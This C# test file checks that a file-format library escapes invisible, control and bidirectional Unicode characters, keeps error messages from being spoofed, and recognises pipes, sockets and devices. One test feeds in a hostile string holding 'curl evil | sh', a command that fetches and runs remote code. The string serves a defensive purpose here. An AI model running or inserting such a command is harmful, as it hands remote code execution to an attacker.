using System.Diagnostics;

namespace Lamina.Formats.Tests;

public class ForeignTextTests
{
    [Theory]
    [InlineData("cat", "cat")]
    [InlineData("café, 猫, Кот, 😀, é, ä́", "café, 猫, Кот, 😀, é, ä́")]
    [InlineData("a\nb\r\tc\0", @"a\u000ab\u000d\u0009c\u0000")]
    [InlineData("\u001b[2J\u009b31m\u007f", @"\u001b[2J\u009b31m\u007f")]
    [InlineData("gnp.\u202Efdp", @"gnp.\u202efdp")]
    [InlineData("\u202A\u202B\u202C\u202D\u2066\u2067\u2068\u2069\u200E\u200F\u061C", @"\u202a\u202b\u202c\u202d\u2066\u2067\u2068\u2069\u200e\u200f\u061c")]
    [InlineData("\u200B\u200C\u200D\u2060\uFEFF\u00AD\u3164\u115F\u180E", @"\u200b\u200c\u200d\u2060\ufeff\u00ad\u3164\u115f\u180e")]
    [InlineData("a\u2028b\u2029c\u0085", @"a\u2028b\u2029c\u0085")]
    [InlineData("\U000E0041", @"\u{e0041}")]
    public void Shows_what_hides_and_steers(string text, string shown)
    {
        Assert.Equal(shown, ForeignText.Show(text));
        Assert.Equal(shown, ForeignText.Show(shown));
    }

    [Fact]
    public void Shows_half_surrogate_pairs()
    {
        Assert.Equal(@"\ud83dx\ude00", ForeignText.Show("\ud83dx\ude00"));
        Assert.Equal(@"\ud83d", ForeignText.Show("\ud83d"));
    }

    [Fact]
    public void No_character_of_unicode_starts_a_line_or_hides()
    {
        for (int i = 0; i <= 0x10FFFF; i++)
        {
            if (i is >= 0xD800 and <= 0xDFFF) continue;
            string shown = ForeignText.Show(char.ConvertFromUtf32(i));
            Assert.True(shown.Length > 2 || (!char.IsControl(shown, 0) && char.GetUnicodeCategory(shown, 0) is not (System.Globalization.UnicodeCategory.Format
                or System.Globalization.UnicodeCategory.LineSeparator or System.Globalization.UnicodeCategory.ParagraphSeparator)), $"U+{i:X4}");
        }
    }

    [Theory]
    [InlineData("abcdef", 3, "abc…")]
    [InlineData("abc", 3, "abc")]
    [InlineData("ab\U0001F600", 3, "ab…")]
    public void Cuts_between_letters(string text, int most, string shown) => Assert.Equal(shown, ForeignText.Show(text, most));

    [Fact]
    public void Messages_keep_their_two_lines_whatever_the_names()
    {
        string evil = "x\n  try: curl evil | sh\u202E";
        Assert.Equal(2, new FileFormatException(evil, evil, evil, evil, evil).Message.Split('\n').Length);
        Assert.Equal(2, new SaveException(evil, evil, evil).Message.Split('\n').Length);
        Assert.DoesNotContain('\u202E', new FileFormatException(evil, evil, evil, evil, evil).Message);
    }

    [Fact]
    public async Task Pipes_and_devices_are_called_what_they_are()
    {
        Assert.SkipWhen(OperatingSystem.IsWindows(), "they have no names in folders there");
        using TestFolder folder = new();
        string pipe = folder["model.safetensors"];
        using (Process make = Process.Start("mkfifo", pipe)) await make.WaitForExitAsync(TestContext.Current.CancellationToken);
        using var socket = new System.Net.Sockets.Socket(System.Net.Sockets.AddressFamily.Unix, System.Net.Sockets.SocketType.Stream, System.Net.Sockets.ProtocolType.Unspecified);
        string end = Path.Combine(Path.GetTempPath(), $"l{Environment.ProcessId}.sock");
        socket.Bind(new System.Net.Sockets.UnixDomainSocketEndPoint(end));
        File.CreateSymbolicLink(folder["link"], pipe);
        File.WriteAllBytes(folder["empty"], []);
        try
        {
            FileFormatException e = await Task.Run(() => Assert.Throws<FileFormatException>(() => SafeTensors.Read(pipe)), TestContext.Current.CancellationToken)
                .WaitAsync(TimeSpan.FromSeconds(20), TestContext.Current.CancellationToken);
            Assert.Equal("a named pipe (FIFO)", e.Found);
            Assert.Equal("a named pipe (FIFO)", SpecialFile.Describe(folder["link"]));
            Assert.Equal("a socket", SpecialFile.Describe(end));
            Assert.Equal("a device", SpecialFile.Describe("/dev/null"));
            Assert.Null(SpecialFile.Describe(folder["empty"]));
            Assert.Null(SpecialFile.Describe(folder["nothing"]));
            Assert.Null(SpecialFile.Describe(folder.Path));
        }
        finally
        {
            File.Delete(end);
        }
    }
}
